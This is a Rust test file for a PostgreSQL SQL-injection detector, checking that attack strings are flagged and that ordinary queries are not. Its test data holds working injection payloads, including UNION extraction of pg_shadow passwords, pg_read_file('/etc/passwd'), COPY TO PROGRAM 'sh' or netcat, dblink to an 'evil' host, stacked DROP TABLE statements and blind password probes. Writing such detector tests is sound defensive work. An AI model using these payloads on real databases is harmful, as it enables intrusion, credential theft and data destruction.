//! The rules on statements as applications and attackers write them.

mod constants;
mod shapes;

use std::collections::BTreeSet;

use super::*;
use crate::sql::{Facts, Statement};

fn look(text: &str) -> Signals {
    let tree = pg_query::parse(text, 0).unwrap_or_else(|e| panic!("{text}: {e}")).protobuf;
    signals(text, &Analysis { tree, facts: Facts::default() })
}

fn techniques(text: &str) -> Vec<Technique> {
    look(text).signals.iter().map(|s| s.technique).collect()
}

/// Runs on a stack as large as the workers' (parsing and dropping a deep tree recurses).
fn on_a_large_stack(test: impl FnOnce() + Send + 'static) {
    let thread = std::thread::Builder::new().stack_size(crate::sql::STACK).spawn(test).expect("a thread");
    thread.join().expect("the test must pass");
}

#[track_caller]
fn shows(technique: Technique, texts: &[&str]) {
    for text in texts {
        assert!(techniques(text).contains(&technique), "{technique:?} not seen in {text}: {:?}", look(text));
    }
}

#[track_caller]
fn nothing(texts: &[&str]) {
    for text in texts {
        assert_eq!(look(text), Signals::default(), "{text}");
    }
}

#[test]
fn every_technique_has_a_name_and_a_sentence_of_its_own() {
    let names: BTreeSet<_> = Technique::ALL.iter().map(|t| t.as_str()).collect();
    let sentences: BTreeSet<_> = Technique::ALL.iter().map(|t| t.explain()).collect();
    assert_eq!((names.len(), sentences.len()), (Technique::ALL.len(), Technique::ALL.len()));
    for sentence in sentences {
        assert!(!sentence.contains("  ") && !sentence.ends_with('.'), "{sentence}");
    }
}

#[test]
fn the_page_tells_of_every_technique() {
    let page = include_str!("../../docs/injection.md");
    let rows: Vec<String> = Technique::ALL.iter().map(|technique| row(*technique)).collect();
    for row in rows {
        assert!(page.contains(&row), "docs/injection.md lacks the row\n{row}");
    }
}

/// The technique's row of the page's table.
fn row(technique: Technique) -> String {
    let weights = technique.weights();
    let weights = match (weights.start(), weights.end()) {
        (least, greatest) if least == greatest => least.to_string(),
        (least, greatest) => format!("{least}–{greatest}"),
    };
    format!("| `{}` | {weights} | {} |", technique.as_str(), technique.explain())
}

#[test]
fn constant_true() {
    shows(
        Technique::ConstantTrue,
        &[
            "SELECT * FROM users WHERE name = '' OR 1=1",
            "SELECT * FROM users WHERE name = '' OR 'a'='a'",
            "SELECT * FROM users WHERE name = '' OR '1'=1",
            "SELECT * FROM users WHERE name = '' OR 2+2=4",
            "SELECT * FROM users WHERE name = '' OR 'ab' = 'a'||'b'",
            "SELECT * FROM users WHERE name = '' OR id=id",
            "SELECT * FROM users u WHERE name = '' OR u.id >= u.id",
            "SELECT * FROM users WHERE name = '' OR 1 IN (3, 2, 1)",
            "SELECT * FROM users WHERE name = '' OR 2 BETWEEN 1 AND 3",
            "SELECT * FROM users WHERE name = '' OR 'x' LIKE '%'",
            "SELECT * FROM users WHERE name = '' OR NULL IS NULL",
            "SELECT * FROM users WHERE name = '' OR true",
            "SELECT * FROM users WHERE name = '' OR 1::bool",
            "SELECT * FROM users WHERE name = '' OR NOT 1=2",
            "SELECT * FROM users WHERE name = '' OR (1=1) IS TRUE",
            "SELECT * FROM users WHERE name = '' OR 1 IS NOT DISTINCT FROM 1",
            "SELECT * FROM users WHERE name = 'admin' OR 1=1 AND password = 'x'",
            "SELECT * FROM users WHERE name IN (SELECT n FROM x WHERE n = 1 OR 1=1)",
            "UPDATE users SET admin = true WHERE id = 5 OR 7>3",
            "INSERT INTO comments (body) SELECT 'x' FROM users WHERE id = 1 OR 1=1",
        ],
    );
    nothing(&[
        "SELECT * FROM users WHERE 1=1 AND name = $1",
        "SELECT * FROM users WHERE 1=1",
        "SELECT * FROM users WHERE 1=0",
        "SELECT * FROM users WHERE name = $1 OR name = $2",
        "SELECT * FROM users WHERE ($1 IS NULL OR name = $1)",
        "SELECT * FROM users WHERE $1 = $2 OR id = 3",
        "SELECT * FROM users WHERE a = b OR c = d",
        "SELECT * FROM users u JOIN users v ON u.id = v.id OR u.id > v.id",
        "SELECT * FROM users WHERE id = 1 OR active",
        "SELECT * FROM users WHERE active OR FALSE",
        "SELECT 1 = 1 OR 2 = 2",
        "SELECT * FROM users GROUP BY name HAVING count(*) > 1",
    ]);
    // What never holds opens nothing; of 0 and 1 builders write it for an empty list.
    assert_eq!(look("SELECT * FROM users WHERE name = '' OR 1=0").score(), 1);
    assert_eq!(look("SELECT * FROM users WHERE name = '' OR 1=1").score(), 5);
}

#[test]
fn h7_a_statement_is_no_fragment() {
    // What libinjection takes for an injection.
    nothing(&[
        "Select * from Monitor where ID=1",
        "SELECT a FROM t WHERE b = 1 AND c = 'x'",
        "SELECT count(*) FROM t GROUP BY a ORDER BY 1",
    ]);
    // What it doesn't.
    for text in [
        "SELECT * FROM t WHERE id = 1 or true",
        "SELECT * FROM t WHERE id = 1 OR 1::bool",
        "SELECT * FROM t WHERE name = '' OR $$a$$ = $x$a$x$",
        "SELECT * FROM t WHERE id = 1 OR NOT 1 <> 1",
    ] {
        assert!(techniques(text).contains(&Technique::ConstantTrue), "{text}");
    }
    assert!(techniques("SELECT 1; DROP TABLE t").contains(&Technique::StackedStatements));
}

#[test]
fn union_probe() {
    shows(
        Technique::UnionProbe,
        &[
            "SELECT id, name FROM products WHERE id = 1 UNION ALL SELECT NULL, NULL",
            "SELECT id, name FROM products WHERE id = 1 UNION SELECT 1, (SELECT password FROM users LIMIT 1)",
            "SELECT id, name FROM products UNION SELECT 1, 'a'||version()",
            "SELECT id, name FROM products UNION SELECT 1, 2 UNION SELECT NULL, NULL",
            "SELECT id, name FROM products UNION SELECT usesysid, passwd FROM pg_shadow",
            "SELECT id, name FROM products UNION SELECT 1, table_name FROM information_schema.tables",
            "SELECT id, name FROM products UNION SELECT 1, c.relname FROM pg_class c JOIN pg_namespace n ON true",
            "SELECT 1 UNION ALL SELECT 1, 2, 3",
            "SELECT * FROM (SELECT a FROM t UNION SELECT NULL) x",
        ],
    );
    shows(
        Technique::UnionProbe,
        &[
            "SELECT id, name FROM products WHERE id = 1 UNION SELECT id, password || ':' || 0, 'x' FROM users",
            "SELECT id, name, price FROM products UNION SELECT 1, name, 2 FROM users",
            "SELECT id, name FROM products UNION VALUES (1, 'x')",
            "SELECT id, name FROM products WHERE id = 1 AND 1=0 UNION SELECT id, password FROM users",
        ],
    );
    nothing(&[
        "SELECT id, 'a' AS kind FROM a UNION ALL SELECT id, 'b' FROM b",
        "SELECT x FROM generate_series(1, 5) AS x UNION ALL SELECT NULL",
        "SELECT id FROM orders UNION SELECT id FROM archived_orders",
        "SELECT id FROM orders UNION ALL SELECT * FROM archived_orders",
        "SELECT 1 UNION SELECT 2",
        "VALUES (1) UNION VALUES (2)",
        "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT * FROM n",
        "SELECT relname FROM pg_class UNION SELECT 'none'",
        "SELECT a FROM t EXCEPT SELECT b FROM u",
    ]);
    assert_eq!(look("SELECT name FROM products UNION SELECT 'all'").score(), 3, "applications write it now and then");
}

#[test]
fn comment_truncation() {
    shows(
        Technique::CommentTruncation,
        &[
            "SELECT * FROM users WHERE name = 'admin'--' AND password = 'x'",
            "SELECT * FROM users WHERE name = 'admin' -- ' AND password = 'x'",
            "SELECT * FROM users WHERE name = ''--",
            "SELECT * FROM users WHERE id = 1-- ",
            "SELECT * FROM users WHERE id = 1 -- AND owner = 3",
            "DELETE FROM carts WHERE id = 1 --, x = 3 WHERE id = 5",
            "SELECT id FROM t WHERE a IN (1)-- ) AND active",
            "SELECT id FROM t WHERE lower(a) = lower('x')-- ')",
            "SELECT id FROM t WHERE a = 1 --MbfW LIMIT 50",
            "SELECT id FROM t WHERE a = 1; SELECT 2 FROM u--",
            "SELECT * FROM users WHERE name = 'admin'\n--' AND password = 'x'",
            "SELECT id FROM t WHERE a LIKE '%x' OR true\n\n-- %'\nORDER BY id",
            "SELECT a\nFROM t\nWHERE b = 'x' -- ' AND c = 3\nORDER BY a",
        ],
    );
    nothing(&[
        "-- name: GetUser :one\nSELECT * FROM users WHERE id = $1",
        "SELECT * FROM users WHERE id = $1 /* controller='users',action='show' */",
        "SELECT * FROM users /* don't */ WHERE id = 1",
        "SELECT * FROM users WHERE id = $1 -- the owner doesn't matter here",
        "SELECT * FROM users WHERE active -- or should we ask for all of them",
        "SELECT * FROM users WHERE note = 'a -- b'",
        "SELECT *\nFROM users -- it's all of them, and 'more'\nWHERE id = 1",
        "SELECT * FROM users WHERE note = '--'",
        "-- only a remark",
        "",
    ]);
}

#[test]
fn stacked_statements() {
    shows(
        Technique::StackedStatements,
        &[
            "SELECT * FROM products WHERE id = 1; DROP TABLE users",
            "SELECT * FROM products WHERE id = 1; UPDATE users SET admin = true",
            "UPDATE carts SET qty = 1; SELECT password FROM users",
            "INSERT INTO t VALUES (1); SET ROLE postgres",
            "SELECT 1; COPY users TO PROGRAM 'sh'",
            "SELECT 1; DO $$ BEGIN END $$",
        ],
    );
    nothing(&[
        "SELECT 1; SELECT 2",
        "INSERT INTO t VALUES (1); INSERT INTO t VALUES (2)",
        "INSERT INTO t VALUES (1); SELECT lastval()",
        "BEGIN; SELECT 1; UPDATE t SET a = 1; CREATE TABLE x (); COMMIT",
        "CREATE TABLE x (); INSERT INTO x DEFAULT VALUES; SELECT 1",
        "UPDATE t SET a = 1; SET CONSTRAINTS ALL IMMEDIATE",
        "SELECT 1; COMMIT",
    ]);
}

#[test]
fn a_pools_release_batch_is_no_stack() {
    let text = "SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL;";
    let tree = pg_query::parse(text, 0).expect("it parses").protobuf;
    let default_set = Statement { default_set: true, ..Statement::default() };
    let statements = vec![Statement::default(), default_set.clone(), default_set.clone(), default_set];
    assert_eq!(signals(text, &Analysis { tree, facts: Facts { statements, ..Facts::default() } }), Signals::default());
}

#[test]
fn time_delay() {
    shows(
        Technique::TimeDelay,
        &[
            "SELECT * FROM users WHERE id = 1 AND 1 = (SELECT 1 FROM pg_sleep(5))",
            "SELECT * FROM users WHERE id = (CASE WHEN 1=1 THEN (SELECT 1 FROM pg_catalog.pg_sleep(5)) END)",
            "SELECT 1; SELECT pg_sleep(5)",
            "SELECT * FROM users WHERE id = (SELECT count(*) FROM generate_series(1, 5000000))",
            "SELECT * FROM users WHERE id = sleep(5)",
        ],
    );
    nothing(&[
        "SELECT pg_sleep(1)",
        "SELECT * FROM generate_series(1, 5000000)",
        "SELECT * FROM t WHERE d IN (SELECT generate_series(1, 31))",
        "SELECT app.pg_sleep(5), x FROM t",
    ]);
}

#[test]
fn file_program() {
    shows(
        Technique::FileProgram,
        &[
            "SELECT * FROM users WHERE name = pg_read_file('/etc/passwd')",
            "SELECT * FROM users WHERE name = (SELECT * FROM pg_ls_dir('.') LIMIT 1)",
            "SELECT 1; SELECT lo_import('/etc/passwd')",
            "COPY t FROM PROGRAM 'id'",
            "COPY (SELECT 1) TO PROGRAM 'nc 10.0.0.1 1234'",
            "SELECT 1; COPY users TO '/tmp/out'",
            "SELECT * FROM users WHERE name = (SELECT * FROM dblink('host=evil', 'select 1') AS t(a text))",
            "SELECT name || dblink_connect('host=evil') FROM users",
            "SELECT name || utl_http.request FROM users",
            "SELECT * FROM users WHERE id = (SELECT lo_creat(-1))",
            "SELECT name || load_file('/etc/passwd') FROM users",
        ],
    );
    nothing(&[
        "COPY t FROM STDIN",
        "COPY lineitem FROM '/tmp/lineitem.csv' WITH (FORMAT csv)",
        "SELECT lo_open(16400, 131072)",
        "SELECT lo_get(picture) FROM users",
        // A report of an administrator, or of an application that has them: what it may call is the policy's matter.
        "SELECT count(*) FROM pg_ls_waldir() WHERE name LIKE '%.ready'",
        "SELECT * FROM dblink('host=reports', 'select 1') AS t(a int)",
        "INSERT INTO totals SELECT * FROM dblink('host=reports', 'select 1') AS t(a int)",
        "SELECT loread(0, 16384)",
    ]);
}

#[test]
fn catalog_probe() {
    shows(
        Technique::CatalogProbe,
        &[
            "SELECT * FROM users WHERE id = 1 AND (SELECT count(*) FROM pg_tables) > 0",
            "SELECT * FROM users WHERE name = (SELECT table_name FROM information_schema.tables LIMIT 1)",
            "SELECT * FROM users WHERE xml = (SELECT query_to_xml('select 1', true, true, ''))",
        ],
    );
    nothing(&[
        "SELECT version()",
        "SELECT n.nspname, c.relname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace",
        "SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema()",
        "WITH c AS (SELECT * FROM pg_class) SELECT * FROM c",
        "SELECT * FROM orders WHERE tenant = current_setting('app.tenant')::int",
        "SELECT * FROM orders WHERE owner = current_user",
        "CREATE VIEW v AS SELECT o.*, version() FROM orders o, pg_class",
        "SELECT @@ box '((0,0),(1,1))' FROM shapes",
    ]);
}

#[test]
fn misplaced_value() {
    shows(
        Technique::MisplacedValue,
        &[
            "SELECT * FROM t ORDER BY id LIMIT 10 OFFSET (1 AND 3885=3885)",
            "UPDATE t SET qty = 1 OR length(name) > 0 WHERE id = 5",
            "INSERT INTO t VALUES (12, 'x' OR name IS NOT NULL)",
            "INSERT INTO t VALUES (12, '1' AND a = 'b')",
            "SELECT * FROM t WHERE id IN (1 OR TRUE)",
            "SELECT * FROM t WHERE id IN (a = 1)",
            "SELECT 1 AND 2 FROM t",
            "SELECT * FROM t WHERE a = 1 OR 1 - 1",
            "SELECT * FROM t WHERE title LIKE '%x' IS DISTINCT FROM 'y%'",
            "SELECT * FROM t WHERE name = ('' LIKE '%')",
            "SELECT ' or ''x''=' FROM t",
        ],
    );
    nothing(&[
        "SELECT * FROM t WHERE ('true') AND (('true'))",
        "SELECT count(a = 1 OR NULL) FROM t",
        "SELECT 'x' FROM t WHERE id = 1",
        "UPDATE t SET active = a AND b",
        "SELECT * FROM t WHERE (a = 1) = b",
        "SELECT * FROM t WHERE (a IN (1, 2)) = true",
        "SELECT 'a, b'",
    ]);
}

#[test]
fn unguarded_or() {
    shows(
        Technique::UnguardedOr,
        &[
            "SELECT id FROM users WHERE username = 'x' OR role = 'admin' AND password = 'y'",
            "DELETE FROM carts WHERE id = 0 OR f(qty) > (1) AND user_id = 3",
        ],
    );
    nothing(&[
        "SELECT id FROM users WHERE username = 'x' OR (role = 'admin' AND password = 'y')",
        "SELECT id FROM users WHERE (username = 'x' OR role = 'admin') AND password = 'y'",
        "SELECT id FROM users WHERE username = $1 OR role = 'admin' AND password = $2",
        "SELECT id FROM users WHERE a = 1 AND b = 2 OR a = 2 AND b = 3",
    ]);
}

#[test]
fn redundant_test() {
    shows(
        Technique::RedundantTest,
        &[
            "SELECT * FROM users WHERE login = 'bob' AND admin AND login <> ''",
            "SELECT * FROM users WHERE login = 'bob' AND login LIKE '%'",
            "SELECT * FROM users WHERE id = 9 AND id < (SELECT max(id) FROM users)",
        ],
    );
    nothing(&[
        "SELECT * FROM users WHERE id = 1 AND id = 1",
        "SELECT * FROM users WHERE state <> 'gone' AND state = 'new'",
        "SELECT * FROM users WHERE login = $1 AND login <> ''",
        "SELECT * FROM users WHERE age > 3 AND age < 9",
        "SELECT * FROM users WHERE a.id = 3 AND b.id > 3",
    ]);
}

#[test]
fn inline_comment() {
    shows(
        Technique::InlineComment,
        &[
            "SELECT * FROM t WHERE id = 1/**/OR/**/a",
            "SELECT * FROM t WHERE id = 1 UNION/*x*/SELECT b FROM u",
            "SELECT * FROM t WHERE id = 1 /*!50000 x */",
        ],
    );
    nothing(&[
        "SELECT * FROM t WHERE id = 1 /* controller='users' */",
        "/* app */SELECT * FROM t",
        "SELECT /*+ SeqScan(t) */ * FROM t",
        "SELECT count(/* all */*) FROM t",
        "SELECT a, /* the name */ b FROM t",
        "SELECT * FROM t WHERE a = 'x/**/a/**/b'",
        "SELECT * FROM t/*traceparent='00'*/",
    ]);
}

#[test]
fn error_forcing() {
    shows(
        Technique::ErrorForcing,
        &[
            "SELECT * FROM t WHERE id = 1 AND 1 = CAST((SELECT version()) AS int)",
            "SELECT * FROM t WHERE id = CAST('q' || (SELECT password FROM users LIMIT 1) || 'q' AS numeric)",
            "SELECT * FROM t WHERE id = CAST(chr(126) || (SELECT current_user) AS numeric)",
            "SELECT * FROM t WHERE (SELECT CASE WHEN 1=1 THEN NULL ELSE CAST('CyTp' AS numeric) END) IS NULL",
            "SELECT * FROM t WHERE id = 1/0",
            "SELECT * FROM t WHERE id = 1/(SELECT 0)",
            "SELECT * FROM t WHERE id = 1/(CASE WHEN a THEN 0 ELSE 1 END)",
            "SELECT * FROM t WHERE id = (CASE WHEN a THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)",
            "SELECT * FROM t WHERE id = (SELECT 1 FROM generate_series(1, 1, CASE WHEN a THEN 1 ELSE 0 END))",
            "SELECT CAST(query_to_xml('select 1', true, true, '')::text AS int) FROM t",
            "SELECT current_database()::int FROM t",
        ],
    );
    nothing(&[
        "SELECT * FROM t WHERE id = '12'::int AND n = ' 3.5e1 '::numeric AND x = 'NaN'::float8",
        "SELECT * FROM t WHERE id = ANY ('{1,2}'::int[])",
        "SELECT 'pg_class'::regclass::oid FROM t",
        "SELECT (a || b)::int, (year || '01')::int FROM t",
        "SELECT * FROM t WHERE n > (SELECT value FROM settings WHERE key = 'limit')::int",
        "SELECT a / CASE WHEN b = 0 THEN 1 ELSE b END FROM t",
        "SELECT a / NULLIF(b, 0) FROM t",
        "SELECT 1/0",
        "SELECT * FROM t WHERE d > '2026-01-01'::date",
    ]);
}

#[test]
fn conditional_probe() {
    shows(
        Technique::ConditionalProbe,
        &[
            "SELECT * FROM t WHERE id = 1 AND ascii(substr((SELECT password FROM users LIMIT 1), 1, 1)) > 64",
            "SELECT * FROM t WHERE id = 1 AND length((SELECT password FROM users)::text) > 8",
            "SELECT * FROM t WHERE id = 1 AND substring(password, 1, 1) = 'a'",
            "SELECT * FROM t WHERE id = (SELECT (CASE WHEN a THEN 1 ELSE 2 END))",
            "SELECT * FROM t WHERE id = (CASE WHEN (SELECT count(*) FROM users) > 0 THEN 1 ELSE 2 END)",
            "SELECT * FROM t WHERE a = 2 OR EXISTS (SELECT 1 FROM users u WHERE u.login = 'admin' AND u.hash LIKE 'a%')",
            "SELECT * FROM t WHERE a = 2 AND (SELECT login FROM users WHERE id = 1) LIKE 'a%'",
            "SELECT * FROM t WHERE id = 1 AND 1 = (SELECT 1)",
            "SELECT * FROM t WHERE id = 1 AND (SELECT * FROM users) = 1",
            "SELECT * FROM t WHERE id IN (SELECT)",
            "UPDATE t SET a = (SELECT ascii(password) FROM users LIMIT 1)",
            "SELECT * FROM t WHERE id = 1 AND (SELECT substr(password, 1, 1) FROM users WHERE id = 1) = 'm'",
            "SELECT * FROM t WHERE id = 1 AND substr('SQL', 1, 1) = 'S'",
        ],
    );
    nothing(&[
        "SELECT * FROM t WHERE left(name, 1) = 'A'",
        "SELECT * FROM t WHERE length(name) > 3",
        "SELECT * FROM t WHERE ascii(name) = 74",
        "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t",
        "SELECT (SELECT CASE WHEN count(*) > 0 THEN true ELSE false END FROM u WHERE u.id = t.id) FROM t",
        "SELECT EXISTS (SELECT FROM t WHERE id = 1)",
        "SELECT * FROM t WHERE owner = (SELECT current_setting('app.user'))",
        "SELECT * FROM t WHERE a = 2 AND EXISTS (SELECT 1 FROM users u WHERE u.id = t.owner AND u.kind = 'x')",
        "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM users u WHERE u.kind = 'x')",
    ]);
}

#[test]
fn clause_probe() {
    shows(
        Technique::ClauseProbe,
        &[
            "SELECT * FROM t LIMIT (SELECT 1)",
            "SELECT * FROM t LIMIT id",
            "SELECT * FROM t LIMIT 1 OFFSET (1 = 1)",
            "SELECT * FROM t LIMIT CASE WHEN true THEN 1 ELSE 2 END",
            "SELECT * FROM t LIMIT f(id)",
            "SELECT * FROM t LIMIT 1+2",
            "SELECT * FROM t ORDER BY (SELECT password FROM users)",
            "SELECT * FROM t ORDER BY a AND b",
            "SELECT * FROM t ORDER BY 1 = 1",
            "SELECT * FROM t ORDER BY 'name'",
            "SELECT a, b FROM t ORDER BY 3",
            "SELECT * FROM t ORDER BY (SELECT password FROM users LIMIT 1)::int",
        ],
    );
    nothing(&[
        "SELECT * FROM t LIMIT 10 OFFSET 20",
        "SELECT * FROM t LIMIT $1 OFFSET $2",
        "SELECT * FROM t LIMIT ALL",
        "SELECT * FROM t LIMIT 10 OFFSET greatest(0, 3)",
        "SELECT * FROM t LIMIT $1 * 5",
        "SELECT * FROM t ORDER BY random()",
        "SELECT * FROM t ORDER BY a, 2, lower(b) DESC, c = 'x', CASE WHEN d THEN 1 ELSE 2 END",
        "SELECT * FROM t ORDER BY (SELECT count(*) FROM u WHERE u.t_id = t.id)",
    ]);
}

#[test]
fn string_building() {
    shows(
        Technique::StringBuilding,
        &[
            "SELECT * FROM t WHERE name = 'a' || 'dmin'",
            "INSERT INTO t VALUES (1, 'x' || (SELECT password FROM users WHERE id = 1) || '')",
            "INSERT INTO t VALUES (1, '%' || (SELECT password FROM users)::text || '%')",
            "SELECT * FROM t WHERE name = 'x' || f() || ''",
            "SELECT * FROM t WHERE name = chr(97) || chr(98)",
            "SELECT * FROM t WHERE name = concat('q', (SELECT version()))",
            "SELECT * FROM t WHERE name = '' - ''",
            "SELECT * FROM t WHERE name = 'x' + 'herp'",
            "SELECT * FROM t WHERE name = 'see ' / etc",
            "SELECT * FROM f('x' || current_user || '')",
            "CALL p('x' || f())",
            "SELECT * FROM t WHERE name = 'blue' || upper(login) || 'x'",
            "SELECT * FROM t WHERE id = 3 - char_length('a')",
            "SELECT * FROM t WHERE id = 1 || 6",
        ],
    );
    nothing(&[
        "SELECT first || ' ' || last FROM t",
        "SELECT * FROM t WHERE name LIKE '%' || $1 || '%'",
        "SELECT a || chr(13) || chr(10) || b FROM t",
        "SELECT * FROM t WHERE d > now() - '1 day'::interval",
        "SELECT d - '1 day', e + '2026-01-01' FROM t",
        "SELECT * FROM t WHERE name % 'similar'",
        "SELECT 'a' || 'b'",
        "SELECT a || '' FROM t",
        "SELECT * FROM t WHERE name LIKE '%' || 'x' || '%' OR name LIKE 'x' || '%'",
        "UPDATE t SET full_id = '@' || id || ':' || 'host'",
    ]);
}

#[test]
fn server_probe() {
    shows(
        Technique::ServerProbe,
        &[
            "SELECT * FROM users WHERE substr(version(), 1, 10) = 'PostgreSQL'",
            "SELECT * FROM users WHERE name = current_setting('data_directory')",
            "SELECT * FROM users WHERE (SELECT @@version) = 'x'",
        ],
    );
    nothing(&[
        "SELECT version()",
        "UPDATE t SET zone = current_setting('timezone')",
        "SELECT * FROM orders WHERE tenant = current_setting('app.tenant')::int",
    ]);
}

#[test]
fn foreign_syntax() {
    shows(
        Technique::ForeignSyntax,
        &[
            "SELECT * FROM users WHERE id = (SELECT count(*) FROM sysobjects)",
            "SELECT name FROM products UNION SELECT banner FROM v$version",
            "SELECT * FROM users WHERE id = 1 OR 5 # rest",
            "SELECT * FROM users WHERE id = ## rest",
            "SELECT * FROM users WHERE name = \" or \"",
            "SELECT * FROM users WHERE name = \"\"\"a\"",
            "SELECT * FROM users WHERE name = \"-\"",
            "SELECT * FROM users WHERE id = last_insert_rowid()",
            "SELECT * FROM users WHERE a == b",
        ],
    );
    nothing(&[
        "WITH all_users AS (SELECT * FROM u) SELECT * FROM all_users",
        "SELECT \"Name\", \"order items\".\"% total\" FROM \"order items\"",
        "SELECT a # b, data #> '{a}', data #>> '{a,b}' FROM t",
        "SELECT * FROM users WHERE a && b AND c @@ to_tsquery('x')",
        "SELECT app.crc32(a) FROM t",
    ]);
}

#[test]
fn ordinary_statements_show_nothing() {
    nothing(&[
        "SELECT u.id, u.name FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE u.name ILIKE $1 LIMIT 20 OFFSET 40",
        "INSERT INTO notes (body) VALUES ('x'' OR 1=1 -- ; DROP TABLE users; UNION SELECT NULL')",
        "UPDATE t SET a = a + 1, b = now() WHERE id = 3 RETURNING *",
        "DELETE FROM t WHERE id = ANY ($1)",
        "INSERT INTO t (a) VALUES (1), (2) ON CONFLICT (a) DO UPDATE SET a = excluded.a",
        "BEGIN",
        "SET application_name = 'x'",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
    ]);
}

#[test]
fn signals_stand_once_and_add_up() {
    let found = look("SELECT * FROM u WHERE a = 1 OR 1=2 OR 1=1 UNION SELECT NULL; SELECT pg_sleep(9)--");
    let techniques: Vec<_> = found.signals.iter().map(|s| s.technique).collect();
    assert_eq!(
        techniques,
        [Technique::ConstantTrue, Technique::UnionProbe, Technique::CommentTruncation, Technique::TimeDelay]
    );
    assert_eq!(found.score(), 5 + 5 + 3 + 5);
}

#[test]
fn deep_and_wide_trees_are_walked() {
    on_a_large_stack(|| {
        let nested = format!("SELECT * FROM u WHERE {}a = 1 OR 1=1{}", "NOT (".repeat(1500), ")".repeat(1500));
        assert_eq!(techniques(&nested), [Technique::ConstantTrue]);
        let sums = format!("SELECT {}1 FROM u", "1 + ".repeat(3000));
        assert_eq!(techniques(&sums), []);
        let selects = format!("SELECT a FROM u{}", " UNION ALL SELECT a FROM u".repeat(2000));
        assert_eq!(techniques(&selects), []);
        let arms = format!("SELECT * FROM u WHERE a = 1{}", " OR a = 1".repeat(20_000));
        assert_eq!(techniques(&arms), []);
        // What would take minutes if the time grew with the square.
        let ands = format!("SELECT * FROM u WHERE a = $1{}", " OR a = $2 AND b = 1".repeat(20_000));
        assert_eq!(techniques(&ands), []);
        let remarks = format!("SELECT a FROM u\n{}", "-- x\n/* y */".repeat(40_000));
        assert_eq!(techniques(&remarks), []);
        let sorted = format!("SELECT a{} FROM u ORDER BY 1{}", ", a".repeat(20_000), ", 1".repeat(20_000));
        assert_eq!(techniques(&sorted), []);
        let rows = format!("INSERT INTO u VALUES (1, 'x'){}", ", (1, 'x')".repeat(20_000));
        assert_eq!(techniques(&rows), []);
        let joined = format!("SELECT * FROM u WHERE a = b{}", " || b".repeat(3000));
        assert_eq!(techniques(&joined), []);
        // Alternating AND and OR, each within the other.
        let zigzag = format!("SELECT * FROM u WHERE {}1=1{}", "(1=1 AND (1=1 OR ".repeat(800), "))".repeat(800));
        assert_eq!(techniques(&zigzag), [Technique::ConstantTrue]);
    });
}
